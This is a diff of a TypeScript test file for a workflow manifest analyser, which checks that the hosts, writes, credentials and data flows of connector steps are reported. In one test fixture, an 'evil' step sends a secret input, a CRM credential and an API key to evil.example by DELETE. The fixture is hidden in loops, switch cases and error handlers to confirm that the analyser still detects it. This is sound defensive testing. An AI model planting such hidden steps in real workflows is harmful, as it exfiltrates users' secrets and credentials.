@@ -1,5 +1,6 @@
 import { describe, expect, test } from 'vitest';
-import { hostTemplate } from './host-template.ts';
+import { checkDefinition } from '../connector/check/index.ts';
+import { hostTemplate, referenceText } from './host-template.ts';
 import { manifestOf } from './manifest.ts';
 import { define, oneStep } from './testing.ts';
 
@@ -46,7 +47,8 @@ describe('where a URL calls', () => {
     ['https://{{input.a}}.ex%61mple.com/', 'any', '{{input.a}}.ex%61mple.com', ['input.a']],
     ['https:///{{input.a}}/x', 'any', '{{input.a}}', ['input.a']],
   ])('%s', (url, kind, host, chosen_by = []) => {
-    expect(hostTemplate(url)).toEqual({ kind, host, chosen_by });
+    const found = hostTemplate(url);
+    expect({ ...found, chosen_by: found.chosen_by.map(referenceText) }).toEqual({ kind, host, chosen_by });
   });
 });
 
@@ -244,6 +246,266 @@ describe('a manifest', () => {
         chosen_by: [],
         steps: methods.map((method) => method.toLowerCase()),
       },
+    ]);
+  });
+});
+
+describe('nothing is hidden by where a step stands', () => {
+  const evil = {
+    name: 'evil',
+    condition: 'input.now',
+    request: {
+      method: 'DELETE',
+      url: 'https://evil.example/{{input.secret}}',
+      auth: { credential: 'crm' },
+      headers: { 'X-Key': '{{workspace.hub.key}}' },
+    },
+  };
+  const fair = { name: 'fair', request: { url: 'https://fair.example/' } };
+  const harmless = { name: 'z', transform: { x: 1 } };
+  const nests: Record<string, [step: object, pointer: string, more?: object[]]> = {
+    'a group': [{ name: 'g', steps: [harmless, evil] }, '/steps/1/steps/1'],
+    'a loop': [{ name: 'g', for_each: { items: 'input.l' }, steps: [evil] }, '/steps/1/steps/0'],
+    'a parallel group': [{ name: 'g', parallel: { steps: [evil] } }, '/steps/1/parallel/steps/0'],
+    'a case': [
+      {
+        name: 'g',
+        switch: {
+          cases: [
+            { when: 'input.w', steps: [harmless] },
+            { when: 'true', steps: [evil] },
+          ],
+        },
+      },
+      '/steps/1/switch/cases/1/steps/0',
+      [
+        { step: 'g', condition: 'input.w' },
+        { step: 'g', condition: 'true' },
+      ],
+    ],
+    'the default of a switch': [
+      { name: 'g', switch: { cases: [{ when: 'input.w', steps: [harmless] }], default: [evil] } },
+      '/steps/1/switch/default/0',
+      [{ step: 'g', condition: 'input.w' }],
+    ],
+    'what handles the failure of a call': [
+      { name: 'g', request: { url: 'https://fair.example/' }, on_error: [evil] },
+      '/steps/1/on_error/0',
+    ],
+    'what handles the failure of a transform': [{ ...harmless, on_error: [evil] }, '/steps/1/on_error/0'],
+    'what handles the failure of a stop': [{ name: 'g', stop: {}, on_error: [evil] }, '/steps/1/on_error/0'],
+    'five levels': [
+      {
+        name: 'g',
+        for_each: { items: 'input.l' },
+        steps: [
+          {
+            name: 'h',
+            switch: {
+              cases: [
+                {
+                  when: 'true',
+                  steps: [{ name: 'i', parallel: { steps: [{ ...harmless, on_error: [evil] }] } }],
+                },
+              ],
+            },
+          },
+        ],
+      },
+      '/steps/1/steps/0/switch/cases/0/steps/0/parallel/steps/0/on_error/0',
+      [{ step: 'h', condition: 'true' }],
+    ],
+  };
+  test.each(Object.entries(nests))('%s', (_, [step, pointer, conditions = []]) => {
+    const manifest = manifestOf(define({ steps: [fair, step] }));
+    expect(manifest.hosts).toContainEqual({
+      kind: 'host',
+      host: 'evil.example',
+      chosen_by: [],
+      steps: ['evil'],
+    });
+    expect(manifest.writes).toEqual([{ step: 'evil', method: 'DELETE', host: 'evil.example' }]);
+    expect(manifest.conditions).toEqual([...conditions, { step: 'evil', condition: 'input.now' }]);
+    expect(manifest.credentials).toMatchObject([
+      {
+        service_name: 'crm',
+        hosts: ['evil.example'],
+        sent: [{ in: 'auth', pointer: `${pointer}/request/auth/credential` }],
+      },
+      {
+        service_name: 'hub',
+        fields: ['key'],
+        sent: [{ in: 'header', pointer: `${pointer}/request/headers/X-Key` }],
+      },
+    ]);
+    expect(manifest.data).toContainEqual({
+      step: 'evil',
+      host: 'evil.example',
+      in: 'url',
+      pointer: `${pointer}/request/url`,
+      references: ['input.secret'],
+    });
+    expect(manifest.steps).toBeGreaterThan(2);
+  });
+});
+
+describe('data is followed through', () => {
+  const from = { url: 'https://a.example.com/' };
+  const send = (read: string) => ({
+    name: 'send',
+    request: {
+      method: 'POST',
+      url: 'https://b.example.com/',
+      body: { type: 'json', content: `{{ ${read} }}` },
+    },
+  });
+  test.each<[what: string, steps: object[], references: string[]]>([
+    [
+      'a transform',
+      [{ name: 't', transform: { deep: ['{{input.phone}}'] } }, send('steps.t.deep')],
+      ['steps.t.deep', 'input.phone'],
+    ],
+    [
+      'another field of a transform',
+      [{ name: 't', transform: { x: '{{input.phone}}', y: 1 } }, send('steps.t.y')],
+      ['steps.t.y'],
+    ],
+    [
+      'a map in one piece',
+      [{ name: 'one', request: from, response: { map: '{"x": input.phone}' } }, send('steps.one.x')],
+      ['steps.one.x', 'input.phone'],
+    ],
+    [
+      'the item of a loop',
+      [{ ...send('item.mail'), for_each: { items: 'input.people' } }],
+      ['item.mail', 'input.people'],
+    ],
+    [
+      'the item of a loop in a loop',
+      [
+        {
+          name: 'l',
+          for_each: { items: 'input.teams' },
+          steps: [{ name: 'm', for_each: { items: 'item.people' }, steps: [send('item.mail')] }],
+        },
+      ],
+      ['item.mail', 'item.people', 'input.teams'],
+    ],
+    [
+      'the same item in two loops',
+      [
+        {
+          name: 'l',
+          for_each: { items: 'input.teams' },
+          steps: [{ name: 'm', for_each: { items: 'item' }, steps: [send('item')] }],
+        },
+      ],
+      ['item', 'input.teams'],
+    ],
+    [
+      'the list of a loop, made by a step',
+      [
+        { name: 't', transform: { list: '{{input.people}}' } },
+        { name: 'l', for_each: { items: 'steps.t.list' }, steps: [send('item')] },
+      ],
+      ['item', 'steps.t.list', 'input.people'],
+    ],
+    [
+      'the results of a loop over a call',
+      [
+        {
+          name: 'one',
+          for_each: { items: 'input.l' },
+          request: from,
+          response: { map: { x: 'input.phone' } },
+        },
+        send('steps.one.results'),
+      ],
+      ['steps.one.results', 'input.phone'],
+    ],
+    [
+      'the results of a loop over steps',
+      [
+        {
+          name: 'l',
+          for_each: { items: 'input.l' },
+          steps: [{ name: 'g', steps: [{ name: 't', transform: { x: '{{item.phone}}' } }] }],
+        },
+        send('steps.l.results'),
+      ],
+      ['steps.l.results', 'item.phone', 'input.l'],
+    ],
+    [
+      'the result of a group',
+      [{ name: 'g', steps: [{ name: 't', transform: { x: '{{input.phone}}' } }] }, send('steps.g')],
+      ['steps.g', 'input.phone'],
+    ],
+    [
+      'the answer of a connector',
+      [
+        {
+          name: 'sub',
+          connector: { id: '01890000-0000-7000-8000-000000000001', input: { x: '{{input.phone}}' } },
+        },
+        send('steps.sub.echo'),
+      ],
+      ['steps.sub.echo', 'input.phone'],
+    ],
+    [
+      'a message of an assertion',
+      [
+        {
+          name: 't',
+          transform: { x: 1 },
+          assert: [{ that: 'false', message: '{{input.phone}}' }],
+          on_error: [send('steps.t.error.message')],
+        },
+      ],
+      ['steps.t.error.message', 'input.phone'],
+    ],
+    [
+      'a map in a loop that reads everything',
+      [
+        { name: 'one', for_each: { items: 'input.l' }, request: from, response: { map: { x: '$string()' } } },
+        send('steps.one.results'),
+      ],
+      ['steps.one.results', 'input', 'steps', 'execution', 'item', 'input.l'],
+    ],
+  ])('%s', (_, steps, references) => {
+    const definition = define({ steps });
+    expect(checkDefinition(definition).errors).toEqual([]);
+    expect(manifestOf(definition).data).toMatchObject([{ step: 'send', references }]);
+  });
+
+  test('the host that a loop calls', () => {
+    const steps = [{ name: 'a', for_each: { items: 'input.hosts' }, request: { url: 'https://{{item}}/' } }];
+    expect(manifestOf(define({ steps })).hosts).toEqual([
+      { kind: 'any', host: '{{item}}', chosen_by: ['item', 'input.hosts'], steps: ['a'] },
+    ]);
+  });
+});
+
+describe('a host that the text does not name', () => {
+  test('is that of the credential, for a path', () => {
+    const manifest = manifestOf(oneStep({ method: 'POST', url: '/people', auth: { credential: 'crm' } }));
+    const host = '{{workspace.crm.base_url}}';
+    expect(manifest.hosts).toEqual([
+      { kind: 'credential', host, chosen_by: ['workspace.crm.base_url'], steps: ['call'] },
+    ]);
+    expect(manifest.writes).toEqual([{ step: 'call', method: 'POST', host }]);
+  });
+
+  test.each([
+    [{ type: 'next_url', next: 'body.links.next' }, '{{body.links.next}}', 'body.links.next'],
+    [{ type: 'link_header' }, '{{headers.link}}', 'headers.link'],
+  ])("may be the next page's: %o", (pagination, host, chosenBy) => {
+    const request = { method: 'POST', url: 'https://a.example.com/', query: { q: '{{input.q}}' } };
+    const manifest = manifestOf(oneStep(request, { pagination: { items: 'body', ...pagination } }));
+    expect(manifest.hosts).toContainEqual({ kind: 'any', host, chosen_by: [chosenBy], steps: ['call'] });
+    expect(manifest.writes.map((write) => write.host)).toEqual(['a.example.com', host]);
+    expect(manifest.data.map((data) => [data.host, data.references])).toEqual([
+      ['a.example.com', ['input.q']],
+      [host, ['input.q']],
     ]);
   });
 });
